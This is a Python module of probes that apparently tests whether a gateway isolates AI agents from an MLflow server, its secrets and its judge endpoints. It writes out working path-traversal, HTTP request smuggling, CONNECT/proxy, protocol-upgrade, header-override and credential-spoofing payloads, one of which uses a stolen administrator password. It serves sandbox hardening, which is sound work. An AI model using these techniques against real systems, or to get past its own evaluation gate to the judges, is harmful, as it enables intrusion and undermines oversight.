"""Ways through the gate to what it hides: MLflow's REST API, its UI, its judges, its users."""

from __future__ import annotations

import base64
import re
import socket
from collections.abc import Iterable

from paddock_probes.network import SECONDS, connect, every, reason
from paddock_probes.registry import Attempt, NothingToAimAt, Targets, probe

MODELS = "/gateway/mlflow/v1/chat/completions"
"""A path that the gate lets through."""
NO_ENDPOINT = "paddock-probe-no-such-endpoint"
"""What a call that is let through asks for: it reaches the gateway, is answered 404, and costs nothing."""
BODY = f'{{"model":"{NO_ENDPOINT}","max_tokens":16,"messages":[{{"role":"user","content":"x"}}]}}'
PRIZE = "/health"
"""MLflow answers it to everybody, so it shows best who is reached."""
REST = "/api/2.0/mlflow/experiments/search?max_results=1"

_ANSWER = re.compile(rb"HTTP/1\.[01] (\d{3})[^\r\n]*\r\n(.*?)(?=HTTP/1\.[01] \d{3}|\Z)", re.S)
# The gate's own words, the gateway's about an endpoint that does not exist, and refusals of what is no HTTP at all.
_OWN_WORDS = (b'"type":"not_found"', b'"endpoint_not_found"')
_AWAY = b"temporarily_unavailable"
_OWN_CODES = (100, 400, 405, 408, 411, 413, 414, 417, 421, 431, 501, 505)


def exchange(address: tuple[str, int], sent: bytes, *, seconds: float = SECONDS) -> bytes:
    """What comes back for some bytes, until the other side hangs up or is silent. Raises OSError."""
    received = b""
    with socket.create_connection(address, timeout=seconds) as connection:
        connection.settimeout(seconds)
        connection.sendall(sent)
        try:
            while len(received) < 200_000 and (part := connection.recv(65536)):
                received += part
                # Several answers may be on their way; a short wait tells.
                connection.settimeout(0.7)
        except TimeoutError:
            pass
    return received


def request(method: str, target: str, *headers: str, body: str = "", version: str = "1.1") -> bytes:
    """One request; where a body is given, with its length."""
    lines = [f"{method} {target} HTTP/{version}"]
    if not any(one.lower().startswith("host:") for one in headers):
        lines.append("Host: gate:8080")
    lines += headers
    if body:
        lines += ["Content-Type: application/json", f"Content-Length: {len(body.encode())}"]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode("latin-1")


def looked_at(what: str, answer: bytes) -> Attempt:
    """Through where anybody but the gate, or the gateway for an endpoint that does not exist, has answered."""
    answers = _ANSWER.findall(answer)
    if not answers:
        return Attempt(what, bool(answer), "hung up" if not answer else f"{answer[:40]!r}")
    for code, rest in answers:
        head, _, body = (b"\r\n" + rest).partition(b"\r\n\r\n")
        if int(code) in _OWN_CODES or (int(code) == 404 and any(word in body for word in _OWN_WORDS)):
            continue
        if int(code) == 502 and (not body or _AWAY in body):
            # What the gate itself says of a body that it could not read to its end.
            continue
        server = re.search(rb"(?im)^server: *([^\r\n]+)", head)
        name = f" by {server[1].decode('latin-1')}" if server else ""
        return Attempt(what, True, f"{int(code)}{name}: {body[:60].decode('latin-1').strip()!r}")
    return Attempt(what, False, f"HTTP {int(answers[-1][0])}")


def ask(targets: Targets, tries: Iterable[tuple[str, bytes]]) -> list[Attempt]:
    """Every try on a connection of its own.

    Raises:
        NothingToAimAt: the gate does not answer an honest call either.
    """
    try:
        honest = exchange(targets.gate, request("POST", MODELS, "Connection: close", body=BODY), seconds=10)
    except OSError as error:
        raise NothingToAimAt(f"the gate does not answer: {reason(error)}") from error
    if not honest:
        raise NothingToAimAt("the gate hangs up on an honest call")

    def one(what: str, sent: bytes) -> Attempt:
        try:
            return looked_at(what, exchange(targets.gate, sent))
        except OSError as error:
            # A reset is an answer of the gate's too; that it can be reached at all another probe shows.
            return Attempt(what, False, reason(error))

    return every((lambda w=what, s=sent: one(w, s)) for what, sent in tries)


@probe(
    "gate-rest",
    attempt="MLflow's REST API, UI, users, keys, artifacts and metrics by their own paths, by every method",
    wall="the gate knows the paths of model calls, by POST, and answers 404 to all others",
    marks=("LLM06", "ASI02", "ASI03"),
)
def gate_rest(targets: Targets) -> list[Attempt]:
    paths = (
        "/",
        PRIZE,
        "/version",
        "/metrics",
        "/signup",
        "/graphql",
        "/server-info",
        "/static-files/index.html",
        REST,
        "/ajax-api/2.0/mlflow/experiments/search",
        "/api/3.0/mlflow/traces/search",
        "/api/3.0/paddock/keys",
        "/api/2.0/mlflow/users/create",
        "/ajax-api/3.0/mlflow/gateway/secrets/list",
        "/get-artifact?path=x",
        "/api/2.0/mlflow-artifacts/artifacts",
        "/gateway/mlflow/v1/models",
        "/api/3.0/mlflow/scorers/list",
        MODELS.upper(),
        MODELS + "/",
        MODELS + "/x",
        "/V1/traces",
        "/v1/traces/",
        "/v1/logs",
        "/v1/metrics",
    )
    methods = ("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")
    return ask(
        targets,
        (
            (
                f"{method} {path}",
                request(method, path, "Connection: close", body="{}" if method == "POST" else ""),
            )
            for path in paths
            for method in methods
            if method in ("GET", "POST") or path in (PRIZE, REST, MODELS + "/")
        ),
    )


@probe(
    "gate-traversal",
    attempt="the same behind a path that is let through: `..`, encoded dots, slashes and backslashes, `;`, NUL, "
    "overlong UTF-8",
    wall="the gate compares the request's target as a whole and as it came, without percent signs and dot segments",
    marks=("LLM06", "ASI02"),
)
def gate_traversal(targets: Targets) -> list[Attempt]:
    up = "/../../../../.."
    paths = (
        MODELS + up + PRIZE,
        MODELS + up.replace("..", "%2e%2e") + PRIZE,
        MODELS + up.replace("/", "%2f") + PRIZE,
        MODELS + up.replace("..", "%252e%252e") + PRIZE,
        MODELS + up.replace("..", "..;") + PRIZE,
        MODELS + up.replace("/", "%5c") + PRIZE,
        MODELS + up.replace("..", "%c0%ae%c0%ae") + PRIZE,
        "/gateway/.." + PRIZE,
        "/gateway/%2e%2e" + PRIZE,
        "/gateway/..%2fhealth",
        "/gateway//../health",
        "//health",
        "/./health",
        "/%2e/health",
        "/healthz/../health",
        "/v1/traces/../../health",
        "/healthz%2f..%2fhealth",
        "/gateway/../mlflow/invocations",
        "/gateway/%2e%2e/mlflow/invocations",
        "/gateway/..%2f..%2fx/mlflow/invocations",
        "/gateway/gemini/v1beta/models/..:x/../../../../../health",
        "/gateway/gemini/v1beta/models/..%2f..:generateContent",
        MODELS + "%00" + PRIZE,
        MODELS + "%0d%0aX: y",
        MODELS + "%20/health",
        MODELS + "%23/../health",
        MODELS + "%3f/health",
        "/gateway/mlflow/v1/chat/completions/..%2f..%2f..%2f..%2f.." + REST,
        "/gateway/.." + REST,
    )
    return ask(
        targets,
        (
            (
                f"{method} {path}",
                request(method, path, "Connection: close", body=BODY if method == "POST" else ""),
            )
            for path in paths
            for method in ("GET", "POST")
        ),
    )


@probe(
    "gate-absolute-form",
    attempt="the gate as a proxy: absolute-form and authority-form requests, another Host, two Hosts, CONNECT",
    wall="the gate has one upstream and takes no other from a request",
    marks=("LLM06", "ASI02"),
)
def gate_absolute_form(targets: Targets) -> list[Attempt]:
    close = "Connection: close"
    return ask(
        targets,
        [
            ("GET http://mlflow:5000/health", request("GET", "http://mlflow:5000/health", close)),
            (
                "the same, Host: mlflow:5000",
                request("GET", "http://mlflow:5000/health", "Host: mlflow:5000", close),
            ),
            ("GET http://demo-model:8000/", request("GET", "http://demo-model:8000/v1/models", close)),
            ("GET https://mlflow:5000/health", request("GET", "https://mlflow:5000/health", close)),
            (
                "GET http://gate:8080@mlflow:5000/",
                request("GET", "http://gate:8080@mlflow:5000/health", close),
            ),
            ("Host: mlflow:5000", request("GET", PRIZE, "Host: mlflow:5000", close)),
            ("Host: localhost", request("GET", PRIZE, "Host: localhost:5000", close)),
            ("two Hosts", request("GET", PRIZE, "Host: gate:8080", "Host: mlflow:5000", close)),
            ("no Host", b"GET /health HTTP/1.1\r\nConnection: close\r\n\r\n"),
            ("HTTP/1.0", b"GET /health HTTP/1.0\r\n\r\n"),
            ("HTTP/0.9", b"GET /health\r\n"),
            ("CONNECT mlflow:5000", request("CONNECT", "mlflow:5000", close) + request("GET", PRIZE, close)),
            (
                "CONNECT postgres:5432",
                request("CONNECT", "postgres:5432", close) + b"\0\0\0\x08\x04\xd2\x16\x2f",
            ),
        ],
    )


@probe(
    "gate-smuggling",
    attempt="a second request hidden in the body of one that is let through: CL.TE, TE.CL, double lengths, odd chunks, "
    "line ends",
    wall="the gate's HTTP server refuses ambiguous framing and writes each request anew for its upstream",
    marks=("LLM06", "ASI02"),
)
def gate_smuggling(targets: Targets) -> list[Attempt]:
    hidden = f"GET {PRIZE} HTTP/1.1\r\nHost: mlflow:5000\r\n\r\n"
    chunked = f"{len(BODY):x}\r\n{BODY}\r\n0\r\n\r\n"
    # A second honest request on the same connection: what waits in an upstream's connection would answer it.
    follow = request("POST", MODELS, "Connection: close", body=BODY)

    def framed(*headers: str, body: str) -> bytes:
        head = (f"POST {MODELS} HTTP/1.1", "Host: gate:8080", "Content-Type: application/json", *headers)
        return ("\r\n".join(head) + "\r\n\r\n" + body).encode("latin-1") + follow

    whole = len(BODY)
    return ask(
        targets,
        [
            ("pipelined", request("POST", MODELS, body=BODY) + hidden.encode() + follow),
            (
                "CL.TE",
                framed(
                    f"Content-Length: {len(chunked + hidden)}",
                    "Transfer-Encoding: chunked",
                    body=chunked + hidden,
                ),
            ),
            ("TE.CL", framed(f"Content-Length: {whole}", "Transfer-Encoding: chunked", body=BODY + hidden)),
            (
                "TE with a space",
                framed(f"Content-Length: {whole}", "Transfer-Encoding : chunked", body=BODY + hidden),
            ),
            (
                "TE in a fold",
                framed(f"Content-Length: {whole}", "Transfer-Encoding:\r\n chunked", body=BODY + hidden),
            ),
            (
                "TE: xchunked",
                framed(f"Content-Length: {whole}", "Transfer-Encoding: xchunked", body=BODY + hidden),
            ),
            ("TE: chunked, identity", framed("Transfer-Encoding: chunked, identity", body=chunked + hidden)),
            (
                "two TE",
                framed("Transfer-Encoding: identity", "Transfer-Encoding: chunked", body=chunked + hidden),
            ),
            (
                "two lengths",
                framed(
                    f"Content-Length: {whole}", f"Content-Length: {whole + len(hidden)}", body=BODY + hidden
                ),
            ),
            ("length list", framed(f"Content-Length: {whole}, {whole + len(hidden)}", body=BODY + hidden)),
            ("length with a plus", framed(f"Content-Length: +{whole}", body=BODY + hidden)),
            ("negative length", framed("Content-Length: -1", body=BODY + hidden)),
            ("length zero", framed("Content-Length: 0", body=hidden)),
            (
                "chunk extension",
                framed("Transfer-Encoding: chunked", body=f"{whole:x};a=\n{BODY}\r\n0\r\n\r\n{hidden}"),
            ),
            (
                "chunk size 0x",
                framed("Transfer-Encoding: chunked", body=f"0x{whole:x}\r\n{BODY}\r\n0\r\n\r\n{hidden}"),
            ),
            (
                "chunk too long",
                framed("Transfer-Encoding: chunked", body=f"{whole - 3:x}\r\n{BODY}\r\n0\r\n\r\n{hidden}"),
            ),
            (
                "trailers",
                framed(
                    "Transfer-Encoding: chunked", body=f"{whole:x}\r\n{BODY}\r\n0\r\nHost: x\r\n\r\n{hidden}"
                ),
            ),
            (
                "bare line feeds",
                framed(f"Content-Length: {whole}", body=BODY + hidden).replace(b"\r\n", b"\n"),
            ),
            ("NUL in a header", framed("X: a\0b", f"Content-Length: {whole}", body=BODY + hidden)),
            ("carriage return in a header", framed(f"X: a\r{hidden}", f"Content-Length: {whole}", body=BODY)),
            ("Expect", framed("Expect: 100-continue", f"Content-Length: {whole}", body=BODY + hidden)),
        ],
    )


@probe(
    "gate-upgrade",
    attempt="another protocol on the gate's connection: h2c upgrade, HTTP/2 by prior knowledge, WebSocket",
    wall="the gate speaks HTTP/1 alone (`protocols h1`), and what it forwards must be POST on a model's path",
    marks=("LLM06", "ASI02"),
)
def gate_upgrade(targets: Targets) -> list[Attempt]:
    behind = request("GET", PRIZE, "Connection: close")
    settings = "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"
    socket_headers = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
    key = "Sec-WebSocket-Key: " + base64.b64encode(b"0123456789abcdef").decode()
    h2c = ("Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", settings)
    return ask(
        targets,
        [
            ("h2c", request("GET", PRIZE, *h2c) + behind),
            ("h2c on a model's path", request("POST", MODELS, *h2c, body=BODY) + behind),
            ("prior knowledge", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"),
            ("WebSocket", request("GET", "/", *socket_headers, key) + behind),
            (
                "WebSocket on a model's path",
                request("POST", MODELS, *socket_headers, key, body=BODY) + behind,
            ),
            (
                "Upgrade: tcp",
                request("POST", MODELS, "Upgrade: tcp", "Connection: Upgrade", body=BODY) + behind,
            ),
        ],
    )


@probe(
    "gate-headers",
    attempt="headers that rename a request behind the gate: X-Original-URL, X-Rewrite-URL, method overrides, "
    "forwarded prefixes",
    wall="nobody behind the gate takes the path or the method from a header",
    marks=("LLM06", "ASI02"),
)
def gate_headers(targets: Targets) -> list[Attempt]:
    names = (
        f"X-Original-URL: {PRIZE}",
        f"X-Rewrite-URL: {PRIZE}",
        f"X-Forwarded-Uri: {PRIZE}",
        f"X-Forwarded-Path: {PRIZE}",
        "X-Forwarded-Prefix: /../..",
        "X-HTTP-Method-Override: GET",
        "X-Method-Override: DELETE",
        f"X-Accel-Redirect: {PRIZE}",
        f"Destination: {PRIZE}",
        "X-Forwarded-Host: mlflow:5000",
        f"X-Sendfile: {PRIZE}",
        f"X-Envoy-Original-Path: {PRIZE}",
    )
    return ask(
        targets, ((name, request("POST", MODELS, name, "Connection: close", body=BODY)) for name in names)
    )


@probe(
    "gate-identity",
    attempt="another identity than the run's, on the judges' endpoint: a stolen administrator's password, proxies' user "
    "headers, cookies, hop-by-hop tricks",
    wall="the gate drops every identity and adds the run's key or the stack's own, which open no judge",
    marks=("LLM06", "ASI03"),
)
def gate_identity(targets: Targets) -> list[Attempt]:
    basic = "Basic " + base64.b64encode((targets.stolen or "admin:password1234").encode()).decode()
    tries = (
        (f"Authorization: {basic}",),
        (f"authorization: {basic}", "Connection: Authorization"),
        (f"X-MLflow-Authorization: {basic}",),
        (f"X_MLflow_Authorization: {basic}",),
        (f"Proxy-Authorization: {basic}",),
        (f"Authorization: {basic}", f"Authorization: {basic}"),
        ("Authorization: Bearer x", f"Authorization: {basic}"),
        ("X-Forwarded-User: admin",),
        ("X-Remote-User: admin",),
        ("X-Auth-Request-User: admin",),
        ("Remote-User: admin",),
        ("X-Paddock-Gate: admin", f"Authorization: {basic}"),
        ("X-Paddock-Collector: admin", f"Authorization: {basic}"),
        ("Cookie: session=admin; user=admin",),
        ("X-Api-Key: admin",),
        (f"X-MLflow-Authorization : {basic}",),
    )
    body = BODY.replace(NO_ENDPOINT, "judge")
    asked = ask(
        targets,
        (
            (
                ", ".join(one.split(" ")[0] for one in headers),
                request("POST", MODELS, *headers, "Connection: close", body=body),
            )
            for headers in tries
        ),
    )
    # No identity at all is refused by the gateway: a 401 says that the claim did not count either.
    return [
        Attempt(one.what, False, "HTTP 401") if one.through and one.seen.startswith("401") else one
        for one in asked
    ]


@probe(
    "gate-models",
    attempt="the list of endpoints and models, to know what there is",
    wall="the gate lets POST on invocation paths through alone",
    marks=("LLM07", "ASI02"),
)
def gate_models(targets: Targets) -> list[Attempt]:
    paths = (
        "/gateway/mlflow/v1/models",
        "/gateway/openai/v1/models",
        "/gateway/anthropic/v1/models",
        "/v1/models",
    )
    return ask(
        targets,
        (
            (
                f"{method} {path}",
                request(method, path, "Connection: close", body="{}" if method == "POST" else ""),
            )
            for path in (*paths, "/gateway/gemini/v1beta/models")
            for method in ("GET", "POST")
        ),
    )


@probe(
    "side-ports",
    attempt="ports of gate and collector beside those that are meant for agents: administration, health, metrics",
    wall="they listen on loopback inside their containers, or not at all",
    marks=("LLM06", "ASI02", "CIS 5.8"),
)
def side_ports(targets: Targets) -> list[Attempt]:
    ports = (22, 80, 443, 1777, 2019, 5000, 8000, 8888, 9090, 13133, 55679)

    def attempt(host: str, port: int) -> Attempt:
        through, seen = connect(host, port)
        # The host itself may be reached, so a refusal is what should be.
        return Attempt(f"{host}:{port}", through and seen == "connected", seen)

    hosts = dict.fromkeys((targets.gate[0], targets.collector[0]))
    return every((lambda h=host, p=port: attempt(h, p)) for host in hosts for port in ports)
